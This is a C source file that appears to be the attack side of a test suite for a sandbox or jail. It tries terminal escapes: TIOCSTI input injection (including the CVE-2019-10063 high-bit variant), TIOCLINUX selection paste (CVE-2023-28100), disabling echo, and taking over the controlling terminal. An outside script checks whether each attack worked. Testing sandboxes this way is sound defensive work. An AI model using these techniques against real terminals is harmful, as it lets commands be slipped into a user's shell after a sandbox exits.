/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* Attacks on the user's terminal: bytes put into its input, to be read by the shell once the jail has ended. Whether
 * they arrived is seen outside, by tests/system/pty_run.py. */
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <termios.h>

#include "attack.h"

#ifndef TIOCLINUX
#define TIOCLINUX 0x541C
#endif

static int push(int fd, uint64_t request, const char *text)
{
    for (; *text; text++)
        if (syscall(SYS_ioctl, fd, request, text) < 0)
            return stopped_or_lacking("ioctl");
    return WORKED;
}

/* push FD: TIOCSTI. */
static int attack_push(char **argv)
{
    return push(atoi(argv[0]), TIOCSTI, "evil\n");
}

/* push-high FD: with the bits set that the kernel drops (CVE-2019-10063). */
static int attack_push_high(char **argv)
{
    return push(atoi(argv[0]), 0xdeadbeef00000000ULL | TIOCSTI, "evil\n");
}

/* push-tty: on the controlling terminal. */
static int attack_push_tty(char **argv)
{
    int fd = open("/dev/tty", O_RDWR | O_CLOEXEC);

    (void)argv;
    return fd < 0 ? stopped("open") : push(fd, TIOCSTI, "evil\n");
}

/* tioclinux FD: paste the console's selection (CVE-2023-28100). Terminals other than consoles answer ENOTTY, once the
 * kernel has been asked. */
static int attack_tioclinux(char **argv)
{
    char code = (char)strtol(argv[1], NULL, 0);

    if (syscall(SYS_ioctl, atoi(argv[0]), 0x7700000000ULL | TIOCLINUX, &code) < 0 && errno != ENOTTY && errno != EINVAL)
        return stopped("ioctl");
    return worked();
}

/* mode FD: leave the terminal without echo. */
static int attack_mode(char **argv)
{
    struct termios t;

    if (tcgetattr(atoi(argv[0]), &t) < 0)
        return stopped("tcgetattr");
    t.c_lflag &= ~(tcflag_t)(ECHO | ICANON | ISIG);
    return tcsetattr(atoi(argv[0]), TCSANOW, &t) < 0 ? stopped("tcsetattr") : worked();
}

/* steal: make the terminal on FD the controlling one of a new session. */
static int attack_steal(char **argv)
{
    if (setsid() < 0 && getsid(0) != getpid())
        return stopped("setsid");
    return ioctl(atoi(argv[0]), TIOCSCTTY, 1) < 0 ? stopped("ioctl") : worked();
}

static const struct attack table[] = {
    {"push", 1, attack_push},
    {"push-high", 1, attack_push_high},
    {"push-tty", 0, attack_push_tty},
    {"tioclinux", 2, attack_tioclinux},
    {"mode", 1, attack_mode},
    {"steal", 1, attack_steal},
    {NULL, 0, NULL},
};

int main(int argc, char **argv)
{
    signal(SIGTTOU, SIG_IGN); /* or a background process that changes its terminal is stopped */
    signal(SIGTTIN, SIG_IGN);
    return attack_main(table, argc, argv);
}
